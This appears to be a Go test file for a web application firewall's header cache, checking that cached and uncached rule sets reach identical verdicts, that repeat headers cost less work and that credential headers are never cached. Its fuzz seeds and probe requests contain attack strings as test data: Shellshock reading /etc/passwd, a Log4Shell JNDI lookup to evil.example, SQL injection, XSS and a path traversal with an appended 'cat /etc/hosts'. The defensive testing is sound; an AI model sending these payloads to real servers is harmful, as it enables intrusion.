package waf

import (
	"bufio"
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestCredentialHeader(t *testing.T) {
	for _, c := range []struct {
		name string
		want bool
	}{
		{"Cookie", true},
		{"cookie", true},
		{"Authorization", true},
		{"Proxy-Authorization", true},
		{"X-Api-Key", true},
		{"X-Auth-Token", true},
		{"X-CSRF-Token", true},
		{"X-XSRF-TOKEN", true},
		{"X-Amz-Security-Token", true},
		{"X-Hub-Signature-256", true},
		{"Sec-WebSocket-Key", true},
		{"X-Session-Id", true},
		{"X-Client-Secret", true},
		{"X-Password", true},
		{"X-Jwt-Assertion", true},
		{"X-Bearer", true},
		{"X-Totp", true},
		{"X-Request-Nonce", true},
		{"X-Service-Ticket", true},
		{"X-Credentials", true},
		{strings.Repeat("a", headerCacheMaxName+1), true},
		{"Host", false},
		{"User-Agent", false},
		{"Accept", false},
		{"Accept-Language", false},
		{"Content-Type", false},
		{"Content-Length", false},
		{"Origin", false},
		{"Referer", false},
		{"Sec-Fetch-Site", false},
		{strings.Repeat("a", headerCacheMaxName), false},
	} {
		if got := credentialHeader(c.name); got != c.want {
			t.Errorf("credentialHeader(%q) = %v, want %v", c.name, got, c.want)
		}
	}
}

// cacheWAFs are the rule set at the gateway's defaults with the header
// cache and without it, built once for the tests and the fuzz target.
var cacheWAFs = sync.OnceValues(func() ([2]*WAF, error) {
	on, err := New(Config{Budget: time.Hour, FullEvaluation: true})
	if err != nil {
		return [2]*WAF{}, err
	}
	off, err := New(Config{Budget: time.Hour, FullEvaluation: true, noHeaderCache: true})
	if err != nil {
		return [2]*WAF{}, err
	}
	if on.plan == nil || on.plan.hdr == nil || off.plan == nil || off.plan.hdr != nil {
		return [2]*WAF{}, fmt.Errorf("header cache not as asked: on %v, off %v", on.plan, off.plan)
	}
	return [2]*WAF{on, off}, nil
})

// outcome is what the rules made of a request: the verdict's decision
// and, per matched rule in order, its matched variables and values
// (sorted: Coraza hands a collection's values out in its map's order).
func outcomeOf(w *WAF, r *http.Request) (Verdict, []string, error) {
	tx := w.Begin(nil)
	defer tx.Close()
	return outcomeIn(tx, r)
}

// outcomeIn is outcomeOf in the transaction tx.
func outcomeIn(tx *Tx, r *http.Request) (Verdict, []string, error) {
	v, err := tx.Request(r, "127.0.0.1:4000")
	var out []string
	for _, mr := range tx.tx.MatchedRules() {
		var mds []string
		for _, md := range mr.MatchedDatas() {
			mds = append(mds, fmt.Sprintf("%s:%s=%q", md.Variable().Name(), md.Key(), md.Value()))
		}
		slices.Sort(mds)
		out = append(out, fmt.Sprintf("%d %s", mr.Rule().ID(), strings.Join(mds, " ")))
	}
	return decision(v), out, err
}

func rawRequest(t testing.TB, raw []byte) *http.Request {
	r, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(raw)))
	if err != nil {
		return nil
	}
	return r
}

// TestHeaderCacheDetection: the request corpus (at the gateway's
// defaults) gives the same verdicts, the same matched rules and the same
// matched values with the cache, cold, then keeping the argument texts
// seen before, then warm, as without it.
func TestHeaderCacheDetection(t *testing.T) {
	wafs, err := cacheWAFs()
	if err != nil {
		t.Fatal(err)
	}
	inputs := corpusInputs(t, true)
	diffs := make([]string, len(inputs))
	// Three times: the first round fills the cache with header values
	// and marks argument texts seen (the two workers racing over it),
	// the second keeps those texts and is answered from it for the
	// headers, the third is answered from it for both.
	for round := range 3 {
		inParallel(len(inputs), func(i int) {
			ra, rb := rawRequest(t, inputs[i]), rawRequest(t, inputs[i])
			if ra == nil {
				return
			}
			va, ma, ea := outcomeOf(wafs[0], ra)
			vb, mb, eb := outcomeOf(wafs[1], rb)
			if !reflect.DeepEqual(va, vb) || !slices.Equal(ma, mb) || fmt.Sprint(ea) != fmt.Sprint(eb) {
				diffs[i] = fmt.Sprintf("round %d: cached %+v %q (%v), uncached %+v %q (%v)", round, va, ma, ea, vb, mb, eb)
			}
		})
	}
	n := 0
	for i, d := range diffs {
		if d != "" {
			if n++; n <= 20 {
				t.Errorf("request %d: %s\n%q", i, d, trimInput(inputs[i]))
			}
		}
	}
	if kept := wafs[0].plan.hdr.len(); kept == 0 {
		t.Fatal("the cache kept nothing")
	}
	t.Logf("%d requests, %d differ; %d header values kept", len(inputs), n, wafs[0].plan.hdr.len())
}

// browserRequest is a form POST with a browser's headers, ua and extra
// (may be empty) as its User-Agent and X-Trace.
func browserRequest(ua, extra string) *http.Request {
	r := httptest.NewRequest("POST", "/contact", strings.NewReader("name=Ana+Mar%C3%ADa&email=ana%40example.com&comment=It%27s+a+great+product%2C+thanks%21&qty=2"))
	r.Header.Set("Host", "localhost")
	r.Header.Set("User-Agent", ua)
	r.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
	r.Header.Set("Accept-Language", "en-US,en;q=0.9")
	r.Header.Set("Referer", "https://localhost/contact")
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo")
	r.Header.Set("Cookie", "session=4f1c2a")
	if extra != "" {
		r.Header.Set("X-Trace", extra)
	}
	return r
}

// workOf runs r through w and returns the gate's work on it (see
// gateState.work).
func workOf(t *testing.T, w *WAF, r *http.Request) (int64, Verdict, []string) {
	t.Helper()
	before := w.plan.work.Load()
	v, m, err := outcomeOf(w, r)
	if err != nil {
		t.Fatal(err)
	}
	return w.plan.work.Load() - before, v, m
}

// countingWAFs are cacheWAFs' rule sets built anew with their work
// counted, the cached one's cache bounded at entries.
func countingWAFs(t *testing.T, entries int) [2]*WAF {
	var out [2]*WAF
	for i, cfg := range []Config{{Budget: time.Hour, FullEvaluation: true}, {Budget: time.Hour, FullEvaluation: true, noHeaderCache: true}} {
		w, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { w.Close() })
		w.plan.counting = true
		if i == 0 {
			if w.plan.hdr, err = newHeaderCache(w.plan.hdrTests, entries); err != nil {
				t.Fatal(err)
			}
		}
		out[i] = w
	}
	return out
}

// TestHeaderCacheHit: a request whose header values were seen before
// costs the gate less work than the first time, with the same outcome.
func TestHeaderCacheHit(t *testing.T) {
	w := countingWAFs(t, headerCacheEntries)
	ua := "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	first, v1, m1 := workOf(t, w[0], browserRequest(ua, ""))
	second, v2, m2 := workOf(t, w[0], browserRequest(ua, ""))
	ref, vr, mr := workOf(t, w[1], browserRequest(ua, ""))
	t.Logf("gate work: %d cold, %d warm, %d without the cache", first, second, ref)
	if second >= first {
		t.Errorf("a request whose headers were seen cost %d, the first %d", second, first)
	}
	if !reflect.DeepEqual(v1, vr) || !reflect.DeepEqual(v2, vr) || !slices.Equal(m1, mr) || !slices.Equal(m2, mr) {
		t.Errorf("outcomes differ: cold %+v %q, warm %+v %q, uncached %+v %q", v1, m1, v2, m2, vr, mr)
	}
}

// TestHeaderCacheMiss: header values never seen before (an attacker's,
// unique on every request) cost the gate no more work than without the
// cache, request by request, while the cache stays within its bound and
// keeps no credential header's value, not even as a hash.
func TestHeaderCacheMiss(t *testing.T) {
	const entries = 64
	w := countingWAFs(t, entries)
	for i := range 3 * entries {
		ua := fmt.Sprintf("Mozilla/5.0 (probe %d) Gecko/%d <b>x</b> ' or %d=%d", i, 20100101+i, i, i)
		extra := fmt.Sprintf("../../etc/passwd?%d;cat /etc/hosts", i*7919)
		if i%2 == 1 {
			ua, extra = fmt.Sprintf("curl/8.%d.0", i), ""
		}
		got, vc, mc := workOf(t, w[0], browserRequest(ua, extra))
		want, vr, mr := workOf(t, w[1], browserRequest(ua, extra))
		if got > want {
			t.Errorf("request %d: gate work %d with the cache, %d without", i, got, want)
		}
		if !reflect.DeepEqual(vc, vr) || !slices.Equal(mc, mr) {
			t.Errorf("request %d: outcomes differ: cached %+v %q, uncached %+v %q", i, vc, mc, vr, mr)
		}
		if n := w[0].plan.hdr.len(); n > entries {
			t.Fatalf("request %d: the cache holds %d values, bound %d", i, n, entries)
		}
	}
	c := w[0].plan.hdr
	s := &gateState{p: w[0].plan, hbuf: make([]byte, 32)}
	has := func(kind byte, name, v string) bool {
		k := s.sum(kind, name, v)
		sh := c.shard(k)
		sh.mu.RLock()
		defer sh.mu.RUnlock()
		_, ok := sh.m[k]
		return ok
	}
	r := browserRequest("x", "")
	// A full shard drops an entry at random for a new one, so the value
	// a request looked up may be dropped for one it adds later: the
	// request is sent again until one finds all of its values kept (each
	// time one is missing, it is put back), a few times at most.
	al := r.Header.Get("Accept-Language")
	for range 8 {
		if has(headerValue, "accept-language", al) || has(headerValue, "Accept-Language", al) {
			break
		}
		workOf(t, w[0], browserRequest("x", ""))
	}
	for _, h := range []string{"Authorization", "Cookie"} {
		for _, name := range []string{h, strings.ToLower(h)} {
			if has(headerValue, name, r.Header.Get(h)) {
				t.Errorf("the cache keeps %s's value", h)
			}
		}
	}
	if !has(headerValue, "accept-language", al) && !has(headerValue, "Accept-Language", al) {
		t.Error("the cache does not keep Accept-Language's value, seen on every request")
	}
}

// FuzzHeaderCache: a request with an arbitrary header gets the same
// outcome (verdict, matched rules and values) from the rule set with
// the header cache, asked twice, as without it.
func FuzzHeaderCache(f *testing.F) {
	for _, s := range [][2]string{
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"},
		{"User-Agent", "() { :; }; /bin/cat /etc/passwd"},
		{"Referer", "http://example.com/?q=1' UNION SELECT password FROM users--"},
		{"X-Forwarded-Host", "evil.example"},
		{"Accept", "../../../../etc/passwd"},
		{"Content-Type", "text/plain; charset=utf-7"},
		{"X-Custom", "<script>alert(1)</script>"},
		{"Authorization", "Basic YWRtaW46YWRtaW4="},
		{"Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"},
		{"X-Custom", "${jndi:ldap://evil.example/a}"},
	} {
		f.Add(s[0], s[1])
	}
	wafs, err := cacheWAFs()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, name, value string) {
		req := func() *http.Request {
			raw := fmt.Sprintf("GET /search?q=shoes HTTP/1.1\r\nHost: localhost\r\n%s: %s\r\n\r\n", name, value)
			r, err := http.ReadRequest(bufio.NewReader(strings.NewReader(raw)))
			if err != nil {
				return nil
			}
			return r
		}
		if req() == nil {
			return
		}
		vr, mr, er := outcomeOf(wafs[1], req())
		for i := range 2 {
			vc, mc, ec := outcomeOf(wafs[0], req())
			if !reflect.DeepEqual(vc, vr) || !slices.Equal(mc, mr) || fmt.Sprint(ec) != fmt.Sprint(er) {
				t.Fatalf("%s: %q: asked %d times: cached %+v %q (%v), uncached %+v %q (%v)", name, value, i+1, vc, mc, ec, vr, mr, er)
			}
		}
	})
}
